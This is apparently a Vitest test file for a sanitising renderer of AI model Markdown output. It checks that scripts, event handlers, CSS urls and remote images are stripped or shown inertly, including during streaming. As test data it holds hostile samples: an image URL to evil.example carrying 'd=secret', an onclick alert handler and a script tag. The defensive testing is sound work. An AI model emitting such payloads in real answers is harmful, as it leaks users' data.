import { describe, expect, it } from 'vitest';
import { dangersIn, hostileMarkdown } from './hostileMarkdown.ts';
import { dangersWhileStreaming, renderAnswer as render } from './renderAnswer.tsx';

describe('Markdown of a model', () => {
  it('is checked by a test that sees dangers', () => {
    expect(dangersIn('<p><img src="https://evil.example/x"></p>')).toHaveLength(2);
    expect(dangersIn('<p onclick="x">a</p>')).toHaveLength(1);
    expect(dangersIn('<td style="background:url(x)">a</td>')).toHaveLength(1);
    expect(dangersIn('<p>a</p><script>')).not.toEqual([]);
    expect(dangersIn('<p class="x" title="https://evil.example">a</p>')).toEqual([]);
  });

  it.each(hostileMarkdown)('becomes no script, handler or address: %s', (payload) => {
    expect(dangersIn(render(payload))).toEqual([]);
    expect(dangersIn(render(`Some words first.\n\n${payload}\n\nand after`))).toEqual([]);
  });

  it('stays so while it streams, wherever it is cut', () => {
    // A half-arrived tag, link or fence is parsed differently from the whole one: each prefix is its own document. Every place is tried
    // by the long test; here each payload is cut at every eleventh, beginning at another place.
    const found = hostileMarkdown.flatMap((payload, index) => dangersWhileStreaming(payload, 1 + (index % 11), 11));
    expect(found).toEqual([]);
  });

  it('shows raw HTML as the text it is', () => {
    expect(render('Use <b>bold</b> text.')).toContain('&lt;b&gt;bold&lt;/b&gt;');
    expect(render('| a<br>b | <br onclick=alert(1)> |\n| - | - |')).toMatch(/a<br\/?>b.*&lt;br onclick/);
  });

  it('shows the host of a link and no address for the browser to follow', () => {
    const html = render('[the docs](https://example.org/a?b=1)');
    expect(html).toContain('example.org');
    expect(html).not.toContain('href');
    expect(html).toContain('<button');
  });

  it('shows the whole address of an image it does not load', () => {
    const html = render('![chart](https://evil.example/p.png?d=secret)');
    expect(html).toContain('https://evil.example/p.png?d=secret');
    expect(html).not.toContain('<img');
  });

  it('renders what models write: lists, tables, code, formulas, tasks', () => {
    const html = render(
      '1. one\n2. two\n\n| a | b |\n| - | -: |\n| 1 | 2 |\n\n```js\nlet a = 1;\n```\n\n- [x] done\n\ninline $x^2$ and \\(y\\)',
    );
    for (const piece of ['<ol>', '<table>', 'text-align:right', '<pre', 'checkbox', 'x^2', '>y<']) {
      expect(html).toContain(piece);
    }
  });
});
